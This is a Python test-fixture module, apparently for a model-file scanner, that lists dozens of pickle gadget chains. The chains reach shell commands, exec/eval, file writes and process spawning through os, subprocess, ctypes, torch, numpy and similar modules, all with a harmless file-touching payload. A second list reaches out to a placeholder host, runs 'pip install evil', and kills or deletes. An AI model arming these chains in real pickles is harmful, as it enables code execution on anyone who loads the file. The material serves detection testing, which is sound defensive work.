"""Chains of globals that run something, each with a harmless payload: it touches a file.

The payload holds MARKER where the file's path goes; tests put a path of the same length there.
"""

import marshal
import sys

from weights.corpus.opcodes import MARKER, Raw, called, named, pickled

SHELL = f"touch {MARKER}"
PYTHON = f"open({MARKER!r}, 'w').close()"
_EXEC = pickled(called("builtins:exec", PYTHON))


def _attribute(module: str, name: str) -> Raw:
    return called("builtins:getattr", called("importlib:import_module", module), name)


# Those that this interpreter (with numpy and pandas) can run.
RUNNING: dict[str, Raw] = {
    "os.system": called("os:system", SHELL),
    "posix.system": called("posix:system", SHELL),
    "subprocess.Popen": called("subprocess:Popen", ["touch", MARKER]),
    "subprocess.call": called("subprocess:call", ["touch", MARKER]),
    "subprocess.run": called("subprocess:run", ["touch", MARKER]),
    "subprocess.getoutput": called("subprocess:getoutput", SHELL),
    "os.popen": called(called("operator:methodcaller", "read"), called("os:popen", SHELL)),
    "os.spawnlp": called("os:spawnlp", 0, "touch", "touch", MARKER),
    "builtins.exec": called("builtins:exec", PYTHON),
    "builtins.eval": called("builtins:eval", PYTHON),
    "__builtin__.eval": called("__builtin__:eval", PYTHON),
    "builtins.open": called("builtins:open", MARKER, "w"),
    "io.open": called("io:open", MARKER, "w"),
    "_io.FileIO": called("_io:FileIO", MARKER, "w"),
    "codecs.open": called("codecs:open", MARKER, "w"),
    "builtins.compile": called("builtins:exec", called("builtins:compile", PYTHON, "x", "exec")),
    "getattr": called(_attribute("os", "system"), SHELL),
    "operator.attrgetter": called(
        called(called("operator:attrgetter", "system"), called("importlib:import_module", "os")),
        SHELL,
    ),
    "operator.methodcaller": called(
        called("operator:methodcaller", "system", SHELL), called("importlib:import_module", "os")
    ),
    "functools.partial": called(called("functools:partial", named("os:system"), SHELL)),
    "functools.reduce": called(
        "functools:reduce", named("builtins:map"), [named("os:system"), [SHELL]]
    ),
    "builtins.map": called("builtins:list", called("builtins:map", named("os:system"), [SHELL])),
    "collections.deque(map)": called(
        "collections:deque", called("builtins:map", named("os:system"), [SHELL])
    ),
    "itertools.starmap": called(
        "builtins:set", called("itertools:starmap", named("os:system"), [(SHELL,)])
    ),
    "builtins.__import__": called(
        called("builtins:getattr", called("builtins:__import__", "os"), "system"), SHELL
    ),
    "pkgutil.resolve_name": called(called("pkgutil:resolve_name", "os:system"), SHELL),
    "timeit.timeit": called("timeit:timeit", PYTHON, "pass", named("time:perf_counter"), 1),
    "cProfile.run": called("cProfile:run", PYTHON),
    "profile.run": called("profile:run", PYTHON),
    "pdb.Pdb.run": called("bdb:Bdb.run", called("bdb:Bdb"), PYTHON),
    "trace.Trace.run": called(
        called("builtins:getattr", called("trace:Trace", 0, 0), "run"), PYTHON
    ),
    "code.InteractiveInterpreter": called(
        called("builtins:getattr", called("code:InteractiveInterpreter"), "runsource"), PYTHON
    ),
    "doctest.debug_script": called("doctest:_SpoofOut"),
    "pickle.loads": called("pickle:loads", _EXEC),
    "_pickle.loads": called("_pickle:loads", _EXEC),
    "types.FunctionType": called(
        called(
            "types:FunctionType",
            called("marshal:loads", marshal.dumps(compile(PYTHON, "x", "exec"))),
            {"__builtins__": called("importlib:import_module", "builtins")},
        )
    ),
    "_thread.start_new_thread": called("_thread:start_new_thread", named("os:system"), (SHELL,)),
    "imaplib.IMAP4_stream": called("imaplib:IMAP4_stream", SHELL),
    "pydoc.pipepager": called("pydoc:pipepager", "x", SHELL),
    "uuid._get_command_stdout": called("uuid:_get_command_stdout", "touch", MARKER),
    "pty.spawn": called("pty:spawn", ["touch", MARKER]),
    "shutil.copyfile": called("shutil:copyfile", "/dev/null", MARKER),
    "pathlib.Path.write_text": called(
        called("builtins:getattr", called("pathlib:PosixPath", MARKER), "write_text"), "x"
    ),
    "pathlib.Path.touch": called("pathlib:Path.touch", called("pathlib:PosixPath", MARKER)),
    "numpy.testing.runstring": called("numpy.testing._private.utils:runstring", PYTHON, {}),
    "numpy.f2py.myeval": called("numpy.f2py.crackfortran:myeval", PYTHON, {}),
    "numpy.save": called("numpy:save", f"{MARKER}", [1]),
    "numpy.memmap": called("numpy:memmap", MARKER, "uint8", "w+", 0, (1,)),
    "logging.FileHandler": called("logging:FileHandler", MARKER),
    "sqlite3.connect": called("sqlite3:connect", MARKER),
    "tempfile.mktemp-exec": called("runpy:_run_code", named("builtins:exec"), {}),
    "ctypes": called(
        called("builtins:getattr", called("ctypes:CDLL", None), "system"), SHELL.encode()
    ),
    "concurrent": called(
        called("builtins:getattr", called("concurrent.futures:ThreadPoolExecutor"), "submit"),
        named("os:system"),
        SHELL,
    ),
    "weakref.finalize": called(
        called("weakref:finalize", named("os:system"), named("os:system"), SHELL)
    ),
    "ensurepip._run_pip": called("distutils.spawn:spawn", ["touch", MARKER])
    if sys.version_info < (3, 12)
    else called("os:system", SHELL),
}
# Not runnable as they stand; each is denied all the same.
for _name in ("doctest.debug_script", "tempfile.mktemp-exec"):
    del RUNNING[_name]

# Those of libraries that are not installed here, or that reach for a network.
ABSENT: dict[str, Raw] = {
    "torch.load": called("torch:load", "x"),
    "torch.hub.load": called("torch.hub:load", "evil/evil", "x"),
    "torch.utils.collect_env.run": called("torch.utils.collect_env:run", SHELL),
    "torch._inductor.codecache": called(
        "torch._inductor.codecache:compile_file", "x", "y", ["touch", MARKER]
    ),
    "torch.jit.execWrapper": called("torch.jit.unsupported_tensor_ops:execWrapper", PYTHON, {}, {}),
    "torch.storage.nested": called("torch.storage:_load_from_bytes", _EXEC),
    "torch.rebuild_from_type": called(
        "torch._tensor:_rebuild_from_type_v2",
        named("os:system"),
        named("torch:Tensor"),
        (SHELL,),
        None,
    ),
    "joblib.load": called("joblib:load", "x"),
    "sklearn.FunctionTransformer": called(
        "sklearn.preprocessing._function_transformer:FunctionTransformer", named("os:system")
    ),
    "transformers.get_class": called(
        "transformers.dynamic_module_utils:get_class_in_module", "x", "y"
    ),
    "webbrowser.open": called("webbrowser:open", "http://192.0.2.1/"),
    "urllib.urlopen": called("urllib.request:urlopen", "http://192.0.2.1/"),
    "socket.create_connection": called("socket:create_connection", ("192.0.2.1", 80)),
    "dill.loads": called("dill:loads", _EXEC),
    "cloudpickle": called("cloudpickle.cloudpickle:_make_function", None, None, None, None, None),
    "pandas.read_pickle": called("pandas.io.pickle:read_pickle", "x"),
    "numpy.load": called("numpy:load", "x", None, True),
    "pip.main": called("pip:main", ["install", "evil"]),
    "fickling": called("keras.src.utils.file_utils:get_file", "x", "http://192.0.2.1/"),
    "idlelib": called("idlelib.pyshell:ModifiedInterpreter.runcode", None, None),
    "lib2to3": called("lib2to3.pgen2.grammar:Grammar.loads", None, _EXEC),
    "asyncio": called("asyncio.unix_events:_UnixSubprocessTransport._start", None),
    "os.kill": called("os:kill", 1, 9),
    "os.remove": called("os:remove", "x"),
    "sys.exit": called("sys:exit", 1),
}
